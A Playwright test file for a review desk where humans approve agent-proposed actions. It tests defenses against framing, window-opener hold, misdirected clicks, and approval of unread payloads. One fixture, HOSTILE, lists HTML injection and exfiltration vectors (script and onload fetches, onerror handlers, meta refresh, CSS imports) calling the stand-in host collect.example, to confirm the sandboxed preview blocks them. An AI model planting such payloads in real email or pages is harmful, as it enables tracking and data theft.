import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Page } from "@playwright/test";

import {
  aFolded,
  aLetter,
  aNote,
  approveButton,
  armed,
  headline,
  lastDecision,
  openAmongOwn,
  openCard,
  releaseByKey,
} from "./desk";
import { expect, test } from "./fixtures";
import { boxOf } from "./targets";

/** Another application on this machine: same site, so that cookies would go along. Answers its address. */
async function withNeighbour(html: string, use: (address: string) => Promise<void>): Promise<void> {
  const neighbour = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(html));
  await new Promise<void>((resolve) => neighbour.listen(0, "127.0.0.1", resolve));
  // eslint-disable-next-line @typescript-eslint/consistent-type-assertions -- a listening TCP server has such an address
  const { port } = neighbour.address() as AddressInfo;
  try {
    await use(`http://127.0.0.1:${String(port)}/`);
  } finally {
    neighbour.close();
  }
}

/** The middle of the approve button, in the page. */
async function overApprove(page: Page): Promise<readonly [number, number]> {
  const { x, y, width, height } = await boxOf(approveButton(page));
  return [x + width / 2, y + height / 2];
}

/** The card wakes anew, and by then a request that was on its way would have left. */
async function stays(page: Page, sent: readonly string[]): Promise<void> {
  await armed(page);
  expect(sent).toEqual([]);
}

test("another page can neither frame the desk nor keep a hold on its window", async ({ server, signedInAs }) => {
  const page = await signedInAs("reviewer");
  await page.goto("/queue");
  await expect(page.getByRole("heading", { name: "Queue" })).toBeAttached();
  await withNeighbour(`<iframe src="${server.url}/queue" width="900" height="700"></iframe>`, async (address) => {
    await page.goto(address);
    const frame = page.frames()[1];
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator("iframe").getByText("Queue")).toHaveCount(0);

    const opened = page.context().waitForEvent("page");
    await page.evaluate((desk) => Reflect.set(window, "desk", open(desk, "", "width=900,height=700")), `${server.url}/queue`);
    const desk = await opened;
    await desk.waitForURL(/\/queue/);
    expect(await desk.evaluate(() => window.opener === null)).toBe(true);
    // Whoever opened it can neither move nor focus nor lead it elsewhere.
    await expect.poll(() => page.evaluate(() => window.desk?.closed)).toBe(true);
    await desk.close();
  });
});

declare global {
  interface Window {
    /** What the neighbour holds of the window that it opened. */
    readonly desk?: Window | null;
  }
}

test("a click that was begun on something else decides nothing: a window in front that closes, one that was moved, a second click", async ({
  agent,
  signedInAs,
}) => {
  const page = await signedInAs("reviewer");
  const sent: string[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/people/decide")) sent.push(request.postData() ?? "");
  });
  const [one, two] = [await agent.propose(aNote("Under One")), await agent.propose(aNote("Under Two"))];
  await openCard(page, one.id);
  const session = await page.context().newCDPSession(page);
  // As on a desk: one window has the focus, and the browser says so to no other.
  await session.send("Emulation.setFocusEmulationEnabled", { enabled: false });
  const [x, y] = await overApprove(page);

  // The first click goes to a window in front, which closes under it; the second lands here.
  const opened = page.context().waitForEvent("page");
  // A tab: of windows of their own a browser without a screen gives each the focus.
  await page.evaluate(() => void open("about:blank"));
  const front = await opened;
  await front.evaluate(() => {
    addEventListener("mousedown", () => {
      close();
    });
  });
  const gone = front.waitForEvent("close");
  await front.bringToFront();
  await expect.poll(() => page.evaluate(() => document.hasFocus())).toBe(false);
  await front.mouse.click(x, y).catch(() => undefined);
  await gone;
  await page.mouse.click(x, y);
  await stays(page, sent);

  // The window is moved so that the button comes to lie under a pointer that stood still.
  const { windowId } = await session.send("Browser.getWindowForTarget");
  await page.bringToFront();
  await session.send("Browser.setWindowBounds", { windowId, bounds: { left: 37, top: 51 } });
  await expect.poll(() => page.evaluate(() => [window.screenX, document.hasFocus()])).toEqual([37, true]);
  await page.mouse.down();
  await page.mouse.up();
  await stays(page, sent);

  // A double click decides the card that it was made on, and not the one that follows.
  await openAmongOwn(page, one.id);
  await page.mouse.dblclick(...(await overApprove(page)));
  await expect(lastDecision(page)).toContainText("Under One");
  expect(sent).toHaveLength(1);
  await releaseByKey(page);
  await expect(headline(page)).not.toContainText("Under One");
  await agent.withdraw(two.id);
});

test("what goes on below the bar is announced, and a long payload is approved only once its end was on the screen", async ({
  agent,
  signedInAs,
}) => {
  const page = await signedInAs("second");
  const proposed = await agent.propose(aLetter("A long letter"));
  for (const path of [`/queue?open=${proposed.id}`, `/focus?open=${proposed.id}`]) {
    await page.goto(path);
    await armed(page);
    await expect(page.getByText("More below")).toBeInViewport();
    await expect(page.getByText("once its end was on the screen")).toBeInViewport();
    await page.keyboard.press("a");
    await expect(approveButton(page)).toHaveAttribute("aria-disabled", "true");
    await page.getByRole("article").getByText("What changes").hover();
    await page.mouse.wheel(0, 50_000);
    await expect(page.getByText("More below")).toBeHidden();
    await expect(page.getByText("Nothing is left to be read")).toBeInViewport();
    await expect(approveButton(page)).toHaveAttribute("aria-disabled", "false");
  }
  expect((await agent.get(proposed.id)).status).toBe("pending");
  await page.keyboard.press("a");
  expect((await agent.wait(proposed.id)).status).toBe("approved");
});

const HOSTILE = `<meta http-equiv="refresh" content="0;url=https://collect.example/meta"><base href="https://collect.example/">
<link rel="stylesheet" href="https://collect.example/css"><style>@import "https://collect.example/import";</style><style>p{background:url(https://collect.example/bg)}</style>
<script>fetch("https://collect.example/script")</script><svg onload="fetch('https://collect.example/svg')"><image href="https://collect.example/image"/></svg>
<img src="https://collect.example/x.png" alt="words" onerror="fetch('https://collect.example/err')"><img src="data:image/svg+xml,<svg onload=alert(1)>">
<style>span{display:none;opacity:0;position:absolute;left:-99em}</style><style>@layer a{span{color:transparent!important;font-size:0!important}}</style><style>@media print{/*</style>
<form action="https://collect.example/form"><button>Send</button></form><iframe src="https://collect.example/frame"></iframe>
<p style="background:url(https://collect.example/style)" onclick="alert(1)"><a href="https://collect.example/pay">Pay here</a></p>`;

test("of a long payload that the card does not show whole, the exact text is opened before it is approved", async ({
  agent,
  signedInAs,
}) => {
  const page = await signedInAs("second");
  const proposed = await agent.propose(aFolded("Folded"));
  await openCard(page, proposed.id);
  await expect(page.getByText("open the evidence before approving")).toBeVisible();
  await expect(approveButton(page)).toHaveAttribute("aria-disabled", "true");
  await page.keyboard.press("Enter");
  await page.getByRole("dialog", { name: "Evidence" }).getByRole("button", { name: "Close" }).click();
  await expect(page.getByText("Nothing is left to be read")).toBeVisible();
  await expect(approveButton(page)).toHaveAttribute("aria-disabled", "false");
  await agent.withdraw(proposed.id);
  // The same sheet draws the HTML of a message, which runs nothing and asks nobody.
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("collect.example")) asked.push(request.url());
  });
  const mail = await agent.propose({
    kind: "email",
    action: { name: "email.send", arguments: { to: "d@acme.example", html: HOSTILE } },
  });
  await openCard(page, mail.id);
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "Show the HTML" }).click();
  const frame = page.frameLocator("iframe[sandbox='']");
  await expect(frame.getByText("Pay here → https://collect.example/pay")).toBeVisible();
  await expect(frame.getByText("[picture from collect.example: words]")).toBeVisible();
  await expect(frame.locator("script, img, svg, form, iframe, link, base, a[href], [onload], [onclick]")).toHaveCount(0);
  expect(asked).toEqual([]);
  await page.getByRole("button", { name: "Show them" }).click();
  await expect(page.getByText("people decided none of this kind")).toBeVisible();
  await agent.withdraw(mail.id);
});
